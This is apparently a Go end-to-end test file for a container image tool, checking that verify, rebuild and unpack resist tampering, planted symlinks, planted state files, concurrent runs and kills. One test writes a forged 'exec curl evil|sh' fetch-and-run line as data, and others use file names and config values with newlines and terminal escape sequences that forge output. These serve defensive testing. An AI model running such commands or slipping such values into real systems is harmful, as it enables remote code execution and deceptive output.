package main

// The rootfs after unpack belongs to the container: what it does to it
// must not fool verify or rebuild, and no unpack may lose data. One test
// per finding of the integrity issue, with the built binary.

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
	"golang.org/x/sys/unix"

	"github.com/ocifetch/ocifetch/internal/testutil"
)

// rewriteKeepingTimes writes content into p in place, keeping its times.
func rewriteKeepingTimes(t *testing.T, p string, content []byte) {
	t.Helper()
	var st unix.Stat_t
	if err := unix.Lstat(p, &st); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(p, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteAt(content, 0)
	f.Close()
	if err := unix.UtimesNano(p, []unix.Timespec{st.Atim, st.Mtim}); err != nil {
		t.Fatal(err)
	}
}

// unpacked is an image unpacked by the binary from a layout.
type unpacked struct {
	env                  []string
	work, rootfs, layout string
	store                string
	layers               [][]byte
}

func unpackLayers(t *testing.T, layers ...[]byte) unpacked {
	t.Helper()
	ref, layout := ociLayout(t, ocispec.ImageConfig{Cmd: []string{"/bin/app"}}, layers...)
	u := unpacked{env: cliEnv(t), work: t.TempDir(), layout: layout, layers: layers}
	u.rootfs, u.store = filepath.Join(u.work, "rootfs"), filepath.Join(u.work, "store")
	mustRun(t, u.env, "unpack", "--quiet", "--store", u.store, ref, u.rootfs)
	return u
}

// A rewritten bin/app with the same size, CRC-64, mtime, mode and owner:
// verify reports its content (exit 4) and rebuild fails naming it. Before,
// verify said the tree was clean, exit 0.
func TestCLIE2EVerifyCatchesCRCForgedRewrite(t *testing.T) {
	t.Parallel()
	app := strings.Repeat("\x7fELF an honest program ", 64)
	u := unpackLayers(t, layerOf(t, edir("bin", layerTime), efile("bin/app", app, 0o755)))
	forged := testutil.ForgeCRC(t, []byte(app), "#!/bin/sh\nexec curl evil|sh\n")
	rewriteKeepingTimes(t, filepath.Join(u.rootfs, "bin/app"), forged)
	r := runBuilt(t, u.env, "verify", u.rootfs)
	if r.code != exitVerification || r.stdout != "changed bin/app (content)\n" {
		t.Errorf("verify of a CRC-forged rewrite: exit %d, stdout %q; want 4 and the content change", r.code, r.stdout)
	}
	r = runBuilt(t, u.env, "rebuild", "--all", "--check", u.rootfs)
	if r.code != exitVerification || !strings.Contains(r.stdout, `"bin/app" changed`) {
		t.Errorf("rebuild --check: exit %d\n%s", r.code, r.stdout)
	}
}

// rebuild --layer N to a pipe: the consumer gets a prefix of the layer
// and never the tampered bytes. Before, all but the last 1024 bytes came
// out before the layer's digest failed, and tar -x of the stream
// extracted the tampered file.
func TestCLIE2ERebuildPipeNeverSeesTamperedBytes(t *testing.T) {
	t.Parallel()
	body := strings.Repeat("honest content ", 40000) // 600 KB
	l := layerOf(t, efile("etc/motd", "hello\n", 0o644), efile("bin/app", body, 0o755), efile("z", strings.Repeat("z", 3000), 0o644))
	u := unpackLayers(t, l)
	rewriteKeepingTimes(t, filepath.Join(u.rootfs, "bin/app"), []byte(strings.Replace(body, "honest", "EVIL!!", 1)))
	bin := builtCLI(t)
	cmd := exec.Command(bin, "rebuild", "--layer", "1", u.rootfs)
	cmd.Env = u.env
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	if err == nil || cmd.ProcessState.ExitCode() != exitVerification {
		t.Fatalf("rebuild of a tampered layer: %v\n%s", err, stderr.String())
	}
	got := stdout.Bytes()
	if len(got) > len(l) || !bytes.Equal(got, l[:len(got)]) {
		t.Errorf("the pipe received %d bytes that are not a prefix of the layer", len(got))
	}
	if bytes.Contains(got, []byte("EVIL!!")) {
		t.Error("the tampered bytes reached the pipe")
	}
}

// Two unpacks of one target at once, the first held mid-layer by the
// registry: the second fails at once with busy (exit 7) and touches
// nothing; the first completes; the tree verifies clean. Before, the
// second took the first's state for a crash and wiped the tree, which
// the first then recorded complete with files missing.
func TestCLIE2ETwoUnpacksOfOneTarget(t *testing.T) {
	t.Parallel()
	ref, reached, release := heldRegistry(t)
	env := cliEnv(t)
	work := t.TempDir()
	rootfs := filepath.Join(work, "rootfs")
	first := exec.Command(builtCLI(t), "unpack", "--quiet", "--store", filepath.Join(work, "store"), ref, rootfs)
	first.Env = env
	var out1 bytes.Buffer
	first.Stdout, first.Stderr = &out1, &out1
	if err := first.Start(); err != nil {
		t.Fatal(err)
	}
	defer first.Process.Kill()
	select {
	case <-reached:
	case <-time.After(30 * time.Second):
		t.Fatal("the first unpack never asked for layer 2")
	}
	// Layer 1 is being applied or done; layer 2 waits.
	time.Sleep(300 * time.Millisecond)
	before := snapshot(t, work)
	start := time.Now()
	r := runBuilt(t, env, "unpack", "--json", "--store", filepath.Join(work, "store2"), ref, rootfs)
	if k, _ := exactJSONError(t, r.stdout); r.code != 7 || k != "busy" {
		t.Errorf("second unpack: exit %d kind %q, want 7 busy\n%s%s", r.code, k, r.stdout, r.stderr)
	}
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("busy after %v", d)
	}
	after := snapshot(t, work)
	delete(after, "store2")
	for p := range after {
		if strings.HasPrefix(p, "store2/") {
			delete(after, p)
		}
	}
	if diffs := treeDiff(before, after); len(diffs) > 0 {
		t.Errorf("the busy unpack changed the target: %v", diffs)
	}
	release()
	if err := first.Wait(); err != nil {
		t.Fatalf("first unpack: %v\n%s", err, out1.String())
	}
	if r := runBuilt(t, env, "verify", rootfs); r.code != 0 {
		t.Errorf("verify after both: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r := runBuilt(t, env, "rebuild", "--all", "--check", rootfs); r.code != 0 {
		t.Errorf("rebuild --check after both: exit %d\n%s", r.code, r.stdout)
	}
}

// A stale or planted .project.ocifetch/state.json saying "applying" beside
// a directory with the user's files: unpack refuses, names the state
// directory, and project/notes.txt stays. Before, unpack emptied it.
func TestCLIE2EPlantedStateBesideUserFiles(t *testing.T) {
	t.Parallel()
	ref, env, work := oneFileLayout(t, "x", "x")
	project := filepath.Join(work, "project")
	os.Mkdir(project, 0o755)
	os.WriteFile(filepath.Join(project, "notes.txt"), []byte("a year of notes"), 0o644)
	state := filepath.Join(work, ".project.ocifetch")
	os.Mkdir(state, 0o755)
	for _, planted := range []string{
		`{"version":1,"status":"applying","layers":[],"started":"2026-01-01T00:00:00Z"}`,
		`{"version":2,"status":"applying","layers":[],"target":{"dev":1,"ino":2},"started":"2026-01-01T00:00:00Z"}`,
	} {
		os.WriteFile(filepath.Join(state, "state.json"), []byte(planted), 0o644)
		r := runBuilt(t, env, "unpack", "--json", "--store", filepath.Join(work, "store"), ref, project)
		k, msg := exactJSONError(t, r.stdout)
		if r.code != exitUsage || k != "invalid_argument" || !strings.Contains(msg, state) {
			t.Errorf("unpack beside a planted state: exit %d kind %q %q", r.code, k, msg)
		}
		if b, err := os.ReadFile(filepath.Join(project, "notes.txt")); err != nil || string(b) != "a year of notes" {
			t.Fatalf("notes.txt: %q %v", b, err)
		}
	}
}

// Layer 1 makes bin -> usr/bin, layer 2 writes bin/sh, layer 3 whites out
// bin, replaces it with a directory or points it elsewhere; with the
// store and the layout deleted, every layer rebuilds. Before, layer 2 was
// read back through bin/sh and was lost.
func TestCLIE2ERebuildAfterParentLinkChanges(t *testing.T) {
	t.Parallel()
	l1 := layerOf(t, edir("usr", layerTime), edir("usr/bin", layerTime), edir("usr/sbin", layerTime), elink("bin", "usr/bin"))
	l2 := layerOf(t, efile("bin/sh", "#!shell\n", 0o755))
	for name, l3 := range map[string][]byte{
		"whiteout": layerOf(t, ewhiteout("", "bin")),
		"replaced": layerOf(t, edir("bin", layerTime), efile("bin/x", "x", 0o644)),
		"retarget": layerOf(t, elink("bin", "usr/sbin")),
	} {
		t.Run(name, func(t *testing.T) {
			u := unpackLayers(t, l1, l2, l3)
			os.RemoveAll(u.store)
			os.RemoveAll(u.layout)
			r := runBuilt(t, u.env, "rebuild", "--all", "--check", u.rootfs)
			if r.code != 0 || strings.Count(r.stdout, " ok ") != 3 {
				t.Errorf("rebuild --all --check: exit %d\n%s%s", r.code, r.stdout, r.stderr)
			}
			out := filepath.Join(u.work, "layer2.tar")
			mustRun(t, u.env, "rebuild", "--layer", "2", "-o", out, u.rootfs)
			if b, _ := os.ReadFile(out); !bytes.Equal(b, l2) {
				t.Error("layer 2 rebuilt differently")
			}
		})
	}
}

// rebuild --all -o DIR with a symbolic link planted at DIR/<diffID>.tar
// pointing at a file outside: the link is replaced, the file outside is
// untouched. Before, the rebuild wrote through the link.
func TestCLIE2ERebuildAllIntoDirWithPlantedLink(t *testing.T) {
	t.Parallel()
	l := layerOf(t, efile("a", "aaa", 0o644))
	u := unpackLayers(t, l)
	outDir := filepath.Join(u.work, "out")
	os.Mkdir(outDir, 0o755)
	victim := filepath.Join(u.work, "victim")
	os.WriteFile(victim, []byte("precious"), 0o644)
	name := filepath.Join(outDir, digest.FromBytes(l).Encoded()+".tar")
	os.Symlink(victim, name)
	mustRun(t, u.env, "rebuild", "--all", "-o", outDir, u.rootfs)
	if b, _ := os.ReadFile(victim); string(b) != "precious" {
		t.Errorf("the file the planted link pointed at now holds %d bytes", len(b))
	}
	fi, err := os.Lstat(name)
	if err != nil || !fi.Mode().IsRegular() {
		t.Fatalf("%s: %v %v", name, fi, err)
	}
	if b, _ := os.ReadFile(name); !bytes.Equal(b, l) {
		t.Error("the rebuilt layer differs")
	}
}

// A SIGKILL during rebuild --all -o DIR leaves nothing partial under a
// final name: every DIR/<hex>.tar there is whole. Before, the layer being
// written was there, truncated.
func TestCLIE2ERebuildAllKilled(t *testing.T) {
	t.Parallel()
	// Layers large enough for the kill to land while one is written.
	var layers [][]byte
	for i := range 3 {
		var es []ent
		for j := range testutil.Scale(40, 8) {
			es = append(es, efile(filepath.Join("d", string(rune('a'+i)), strings.Repeat("f", j+1)), strings.Repeat(string(rune('0'+j%10)), testutil.Scale(1<<20, 256<<10)), 0o644))
		}
		layers = append(layers, layerOf(t, es...))
	}
	u := unpackLayers(t, layers...)
	for attempt := range testutil.Scale(3, 1) {
		outDir := filepath.Join(u.work, "out", string(rune('0'+attempt)))
		os.MkdirAll(outDir, 0o755)
		cmd := exec.Command(builtCLI(t), "rebuild", "--all", "-o", outDir, u.rootfs)
		cmd.Env = u.env
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		// Wait until the command writes into outDir: a file there, or a
		// descriptor of one.
		deadline := time.Now().Add(20 * time.Second)
		for time.Now().Before(deadline) {
			if writing(cmd.Process.Pid, outDir) || len(dirEntries(outDir)) > 0 && dirEntries(outDir)[0] != "-" {
				break
			}
			time.Sleep(time.Millisecond)
		}
		time.Sleep(time.Duration(attempt*20) * time.Millisecond)
		cmd.Process.Signal(syscall.SIGKILL)
		cmd.Wait()
		for _, n := range dirEntries(outDir) {
			b, err := os.ReadFile(filepath.Join(outDir, n))
			if err != nil {
				t.Fatal(err)
			}
			if !strings.HasSuffix(n, ".tar") || digest.FromBytes(b).Encoded()+".tar" != n {
				t.Errorf("after SIGKILL: %s holds %d bytes that are not its layer", n, len(b))
			}
		}
	}
}

// writing tells whether process pid has a file below dir open.
func writing(pid int, dir string) bool {
	fds, err := os.ReadDir(filepath.Join("/proc", strconv.Itoa(pid), "fd"))
	if err != nil {
		return false
	}
	for _, fd := range fds {
		target, err := os.Readlink(filepath.Join("/proc", strconv.Itoa(pid), "fd", fd.Name()))
		if err == nil && strings.HasPrefix(target, dir+"/") {
			return true
		}
	}
	return false
}

// A file name with a newline or an escape sequence, made in the tree by
// the container, is printed quoted by verify: it cannot forge a line of
// output. Before, "x\nverify: rootfs is clean" printed that line.
func TestCLIE2EVerifyQuotesNames(t *testing.T) {
	t.Parallel()
	u := unpackLayers(t, layerOf(t, efile("a", "a", 0o644)))
	for _, n := range []string{"x\nverify: rootfs is clean", "\x1b[2K\x1b[1Aerased", `back\slash`} {
		os.WriteFile(filepath.Join(u.rootfs, n), nil, 0o644)
	}
	r := runBuilt(t, u.env, "verify", u.rootfs)
	want := "appeared \"\\x1b[2K\\x1b[1Aerased\"\nappeared \"back\\\\slash\"\nappeared \"x\\nverify: rootfs is clean\"\n"
	if r.code != exitVerification || r.stdout != want {
		t.Errorf("verify: exit %d, stdout %q, want %q", r.code, r.stdout, want)
	}
	if strings.ContainsRune(r.stdout+r.stderr, 0x1b) {
		t.Error("an escape byte reached the terminal")
	}
}

// inspect prints the labels, environment and command an image chose
// quoted when they hold control bytes.
func TestCLIE2EInspectQuotesConfig(t *testing.T) {
	t.Parallel()
	ref, _ := ociLayout(t, ocispec.ImageConfig{
		Labels:     map[string]string{"evil\x1b[31m": "red\nfake: line"},
		Env:        []string{"PS1=\x1b]0;owned\x07"},
		Entrypoint: []string{"/bin/sh", "-c", "echo\nhi"},
	}, layerOf(t, efile("a", "a", 0o644)))
	r := mustRun(t, cliEnv(t), "inspect", ref)
	for _, want := range []string{
		`label       "evil\x1b[31m"="red\nfake: line"`,
		`env         "PS1=\x1b]0;owned\a"`,
		`entrypoint  /bin/sh -c "echo\nhi"`,
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("inspect lacks %s:\n%s", want, r.stdout)
		}
	}
	if strings.ContainsAny(r.stdout, "\x1b\x07") || strings.Contains(r.stdout, "\nfake: line") {
		t.Errorf("raw control bytes in inspect's output:\n%q", r.stdout)
	}
}

// umociUnpack unpacks the layout's image "t" with umoci.
func umociUnpack(t *testing.T, layout string) string {
	t.Helper()
	umoci := testutil.Tool(t, "umoci")
	dir := filepath.Join(t.TempDir(), "umoci")
	if out, err := exec.Command(umoci, "raw", "unpack", "--image", layout+":t", dir).CombinedOutput(); err != nil {
		t.Fatalf("umoci: %v\n%s", err, out)
	}
	return dir
}

// dirMtimes maps each directory below root to its mtime.
func dirMtimes(t *testing.T, root string) map[string]int64 {
	t.Helper()
	out := map[string]int64{}
	filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
		if err == nil && d.IsDir() && p != root {
			var st unix.Stat_t
			unix.Lstat(p, &st)
			rel, _ := filepath.Rel(root, p)
			out[rel] = st.Mtim.Nano()
		}
		return nil
	})
	return out
}

// A directory a layer changes without listing it keeps its mtime: layer
// 1 lists d/, layer 2 rewrites d/f and whites out d/g without listing
// d/. The tree is umoci's, d's mtime included, and two unpacks agree.
// Before, d got the time of each unpack.
func TestCLIE2EUnlistedParentMtimeAsUmoci(t *testing.T) {
	t.Parallel()
	old := time.Unix(1500000000, 0)
	l1 := layerOf(t, edir("d", old), efile("d/f", "v1", 0o644), efile("d/g", "g", 0o644))
	l2 := layerOf(t, efile("d/f", "v2", 0o644), ewhiteout("d", "g"))
	u := unpackLayers(t, l1, l2)
	theirs := umociUnpack(t, u.layout)
	ref := "oci:" + u.layout + ":t"
	second := filepath.Join(u.work, "second")
	time.Sleep(20 * time.Millisecond)
	mustRun(t, u.env, "unpack", "--quiet", "--store", u.store, ref, second)
	ours, again, um := dirMtimes(t, u.rootfs), dirMtimes(t, second), dirMtimes(t, theirs)
	if ours["d"] != old.UnixNano() || again["d"] != old.UnixNano() || um["d"] != old.UnixNano() {
		t.Errorf("mtime of d: ours %d, a second unpack %d, umoci %d; want %d for all", ours["d"], again["d"], um["d"], old.UnixNano())
	}
	if diffs := treeDiff(snapshot(t, theirs), snapshot(t, u.rootfs)); len(diffs) > 0 {
		t.Errorf("against umoci: %v", diffs)
	}
}

// An opaque whiteout through a symbolic link to its own directory
// (s -> ., then s/.wh..wh..opq) removes all 40 lower files, as umoci
// does, whatever order readdir lists them in. Before, removing s first
// stopped it midway.
func TestCLIE2EOpaqueThroughSelfLink(t *testing.T) {
	t.Parallel()
	var lower []ent
	for i := range 40 {
		lower = append(lower, efile("f"+strconv.Itoa(i), "lower", 0o644))
	}
	lower = append(lower, elink("s", "."))
	u := unpackLayers(t, layerOf(t, lower...), layerOf(t, ewhiteout("s", ".wh..opq"), efile("s/upper", "u", 0o644)))
	theirs := umociUnpack(t, u.layout)
	got := snapshot(t, u.rootfs)
	if diffs := treeDiff(snapshot(t, theirs), got); len(diffs) > 0 {
		t.Errorf("against umoci: %v", diffs)
	}
	if len(got) != 3 { // ".", s, s/upper
		t.Errorf("%d paths left, want s/upper alone: %v", len(got)-1, got)
	}
}

// A layer with an entry 4097 levels deep is refused with too_large and
// leaves nothing; a tree the container made deeper than 4096 levels fails
// verify with too_large, and one 4000 deep verifies with few descriptors
// (ulimit -n 64). Before, verify held a descriptor per level.
func TestCLIE2EDepthLimit(t *testing.T) {
	t.Parallel()
	ref, env, work := oneFileLayout(t, strings.Repeat("d/", 4096)+"f", "x")
	r := runBuilt(t, env, "unpack", "--json", "--store", filepath.Join(work, "store"), ref, filepath.Join(work, "rootfs"))
	if k, msg := exactJSONError(t, r.stdout); k != "too_large" || !strings.Contains(msg, "deeper than the limit of 4096") {
		t.Errorf("deep layer: kind %q %q", k, msg)
	}
	if names := dirEntries(work); strings.Join(names, ",") != "store" {
		t.Errorf("left behind: %v", names)
	}

	u := unpackLayers(t, layerOf(t, efile("a", "a", 0o644)))
	levels := testutil.Scale(4000, 300) // either way, more than 64 descriptors
	mkdirDeep(t, u.rootfs, "x", levels)
	cmd := exec.Command("sh", "-c", `ulimit -n 64 && exec "$@"`, "sh", builtCLI(t), "verify", "--json", u.rootfs)
	cmd.Env = u.env
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	cmd.Run()
	if code := cmd.ProcessState.ExitCode(); code != exitVerification || !strings.Contains(stdout.String(), `"clean": false`) ||
		strings.Count(stdout.String(), `"appeared"`) != levels {
		t.Errorf("verify of %d levels with 64 descriptors: exit %d\n%.300s\n%s", levels, code, stdout.String(), stderr.String())
	}
	mkdirDeep(t, u.rootfs, "y", 4097)
	r = runBuilt(t, u.env, "verify", "--json", u.rootfs)
	if k, msg := exactJSONError(t, r.stdout); k != "too_large" || r.code != exitVerification || !strings.Contains(msg, "deeper than the limit of 4096") {
		t.Errorf("verify of 4097 levels: exit %d kind %q %q", r.code, k, msg)
	}
}

// mkdirDeep makes n nested directories named name below dir.
func mkdirDeep(t *testing.T, dir, name string, n int) {
	t.Helper()
	fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	for range n {
		if err := unix.Mkdirat(fd, name, 0o755); err != nil {
			t.Fatal(err)
		}
		next, err := unix.Openat(fd, name, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		unix.Close(fd)
		if err != nil {
			t.Fatal(err)
		}
		fd = next
	}
	unix.Close(fd)
}
